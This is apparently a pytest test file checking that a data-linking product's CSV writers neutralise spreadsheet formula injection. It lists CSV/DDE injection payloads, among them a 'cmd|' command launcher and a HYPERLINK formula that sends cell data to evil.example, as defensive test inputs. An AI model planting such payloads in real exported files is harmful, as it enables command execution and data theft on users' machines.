"""CSV injection: a value a source system sent (a key, a name) must never reach a spreadsheet
as a formula. Every CSV the product writes for people goes through ``joinedup.exports``;
this checks the writer and the exports that exist today (``joinedup link --out/--pairs``).
The simulator's truth file and the landing pages are internal (read back only by the
product) and keep values byte for byte."""
from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from joinedup.exports import FORMULA_STARTS, is_formula_like, neutralise_cell, write_csv, write_rows

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def _opens_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell's text: formula when it starts with one of these
    (a plain number such as -1.5 is read as a number)."""
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell.strip()):
        return False
    return cell.lstrip(" ")[:1] in FORMULA_STARTS or cell[:1] in FORMULA_STARTS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised_and_recoverable(payload: str) -> None:
    safe = neutralise_cell(payload)
    assert safe == "'" + payload  # shown as text; the original is the cell without its quote
    assert not _opens_as_formula(safe)


@pytest.mark.parametrize("value", ["-3.25", "+44", "12", "1e-5", "Smith", "O'Brien", "", "a=b"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value
    assert neutralise_cell(None) is None and neutralise_cell(3.5) == 3.5


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_text_leaves_the_writer_as_a_formula(value: str) -> None:
    safe = neutralise_cell(value)
    assert not (is_formula_like(safe)), repr(value)
    assert safe in (value, "'" + value)


def test_write_csv_and_write_rows_neutralise_every_cell(tmp_path: Path) -> None:
    import pandas as pd

    frame = pd.DataFrame({"source_key": PAYLOADS, "weight": [-1.5] * len(PAYLOADS)})
    write_csv(frame, tmp_path / "a.csv")
    write_rows(tmp_path / "b.csv", ["=header", "weight"], [[p, -1.5] for p in PAYLOADS])
    for name in ("a.csv", "b.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if _opens_as_formula(c)], name
        assert [r[1] for r in rows[1:]] == ["-1.5"] * len(PAYLOADS)  # numbers stay numbers


def test_joinedup_link_out_and_pairs_are_spreadsheet_safe(tmp_path: Path) -> None:
    """Hostile keys and names in the input of ``joinedup link``: the keys come back in both
    files, neutralised; nothing is lost (one output row per input record)."""
    from joinedup.mci.link_command import link_files

    rows = ["source_key,given_name,family_name,date_of_birth,ni_number,postcode"]
    for i, payload in enumerate(PAYLOADS):
        key = payload.replace('"', '""')
        rows.append(f'"{key}",John,"=cmd|\' /C calc\'!A0",1980-01-0{i % 9 + 1},AB12345{i % 10}C,NP20 1AB')
    (tmp_path / "revenues.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (tmp_path / "housing.csv").write_text(
        "source_key,given_name,family_name,date_of_birth,ni_number,postcode\n"
        "@H1,John,Smith,1980-01-01,AB123450C,NP20 1AB\n", encoding="utf-8")
    out, pairs = tmp_path / "out.csv", tmp_path / "pairs.csv"
    link_files([tmp_path / "revenues.csv", tmp_path / "housing.csv"], out, pairs_path=pairs)
    for path in (out, pairs):
        with open(path, newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if _opens_as_formula(c)], path.name
    with open(out, newline="", encoding="utf-8") as fh:
        keys = [row["source_key"] for row in csv.DictReader(fh)]
    assert len(keys) == len(PAYLOADS) + 1
    assert sorted(k[1:] for k in keys) == sorted([*PAYLOADS, "@H1"])  # all there, each behind a quote


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(), st.floats(), st.booleans(),
                          st.text(alphabet=" =+-@\t\r\n1.eE\uff1dab", max_size=6)),
                min_size=0, max_size=12))
def test_neutralise_frame_treats_each_cell_as_neutralise_cell_does(values: list) -> None:
    """The frame's one-pass screen (only cells starting with a formula character are checked)
    never skips a cell that neutralise_cell would change, whatever else the column holds."""
    import pandas as pd

    from joinedup.exports import neutralise_frame

    frame = pd.DataFrame({"mixed": pd.Series(values, dtype=object),
                          "text": pd.Series([v if isinstance(v, str) else "x" for v in values],
                                            dtype=object)})
    safe = neutralise_frame(frame)
    for column in frame.columns:
        for got, value in zip(safe[column].tolist(), frame[column].tolist()):
            expected = neutralise_cell(value)
            assert got is expected or got == expected or (got != got and expected != expected)
